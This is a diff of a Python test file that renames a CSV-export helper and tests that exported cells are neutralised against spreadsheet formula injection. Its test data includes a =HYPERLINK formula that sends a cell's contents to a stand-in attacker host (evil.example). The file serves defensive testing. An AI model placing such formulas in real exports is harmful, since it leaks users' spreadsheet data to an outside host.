@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from orkestr_console.accounts import audit, usage
 from orkestr_console.accounts.actor import Actor
 from orkestr_console.accounts.models import Metric, Team, UsageDay
-from orkestr_console.ui.downloads import FORMULA, cell, csv_file, json_lines_file
+from orkestr_console.ui.downloads import FORMULA_PREFIXES, csv_file, json_lines_file, safe_cell
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?"&A1,"x")',
@@ -46,7 +46,7 @@ def test_no_spreadsheet_computes_a_cell(console: Client, console_actor: Actor) -
     assert len(rows) == len(FORMULAS)
     assert all(len(row) == len(header) for row in rows)
     cells = [one for row in rows for one in row]
-    assert [one for one in cells if one.lstrip(" ").startswith(tuple(FORMULA[:-1]))] == []
+    assert [one for one in cells if one.lstrip(" ").startswith(tuple(FORMULA_PREFIXES[:-1]))] == []
     names = [row[header.index("object_name")] for row in reversed(rows)]
     # All of it can be had back: one apostrophe off each cell that has one. Controls are marked.
     assert [name[1:] for name in names] == [f.replace("\r", "\u27e8U+000D\u27e9") for f in FORMULAS]
@@ -58,7 +58,7 @@ def test_numbers_stay_numbers(console: Client, team: Team) -> None:
     assert header == ["day", *Metric.values]
     assert all(float(one) >= 0 for row in rows for one in row[1:])
     assert "12.500" in [row[1] for row in rows]
-    assert cell(-1.5) == -1.5
+    assert safe_cell(-1.5) == -1.5
     assert b"-1.5\r\n" in csv_file("x.csv", ["a"], [[-1.5]]).content
 
 
@@ -79,9 +79,9 @@ def test_a_record_is_a_line_for_every_reader(
 
 @given(st.text())
 def test_whatever_the_text_is(text: str) -> None:
-    shown = cell(text)
+    shown = safe_cell(text)
     assert isinstance(shown, str)
-    assert not shown.startswith(tuple(mark for mark in FORMULA if mark != "'"))
+    assert not shown.startswith(tuple(mark for mark in FORMULA_PREFIXES if mark != "'"))
     answer = json_lines_file("x.jsonl", [{"x": text}])
     assert len(answer.content.decode().splitlines()) == 1
     assert json.loads(answer.content) == {"x": text}
